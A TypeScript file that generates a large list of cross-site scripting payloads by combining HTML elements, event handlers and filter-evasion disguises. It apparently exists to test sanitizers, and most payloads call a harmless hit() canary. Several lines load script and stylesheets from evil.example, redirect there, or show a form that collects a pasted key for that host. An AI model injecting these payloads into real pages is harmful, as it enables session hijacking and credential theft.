/** Texts that become markup or script where a page is careless: every element × handler × way of hiding it, and what has no element. */
const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus autofocus',
  'onmouseover',
  'ontoggle open',
  'onpointerenter',
  'onanimationstart',
];

const ELEMENTS = [
  '<img src=x {h}=hit()>',
  '<svg {h}=hit()>',
  '<svg><animate {h}=hit() attributeName=x dur=1s>',
  '<body {h}=hit()>',
  '<iframe srcdoc="<img src=x {h}=parent.hit()>">',
  '<video><source {h}=hit()></video>',
  '<details {h}=hit()>',
  '<input {h}=hit()>',
  '<math><mi {h}=hit()>',
  '<x-a {h}=hit()>',
  '<object data=x {h}=hit()>',
  '<marquee {h}=hit()>',
];

const DISGUISES: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}<!--`,
  (payload) => `</textarea>${payload}`,
  (payload) => `</option></select>${payload}`,
  (payload) => `</title></style></script>${payload}`,
  (payload) => payload.toUpperCase(),
  (payload) => payload.replaceAll(' ', '/'),
  (payload) => payload.replaceAll('<', '\uFF1C<'),
  (payload) => `<!--><${payload.slice(1)}`,
];

const OTHERS = [
  '<script>hit()</script>',
  '<script src="https://evil.example/a.js"></script>',
  '<a href="javascript:hit()">key?</a>',
  '<a href=" java\tscript:hit()">x</a>',
  '[x](javascript:hit())',
  '![x](https://evil.example/p.png)',
  'javascript:hit()',
  'data:text/html,<script>hit()</script>',
  '{{constructor.constructor("hit()")()}}',
  '\u0024{hit()}',
  '<style>@import "https://evil.example/a.css"</style>',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><input name=key><button>Paste your key</button></form>',
  '<template><img src=x onerror=hit()></template>',
  '<![CDATA[<img src=x onerror=hit()>]]>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<?xml-stylesheet href="javascript:hit()"?>',
  '\u202E<img src=x onerror=hit()>\u202C',
];

export const XSS_PAYLOADS: readonly string[] = [
  ...ELEMENTS.flatMap((element) =>
    HANDLERS.flatMap((handler) => DISGUISES.map((disguise) => disguise(element.replaceAll('{h}', handler)))),
  ),
  ...OTHERS.flatMap((payload) => DISGUISES.slice(0, 6).map((disguise) => disguise(payload))),
];
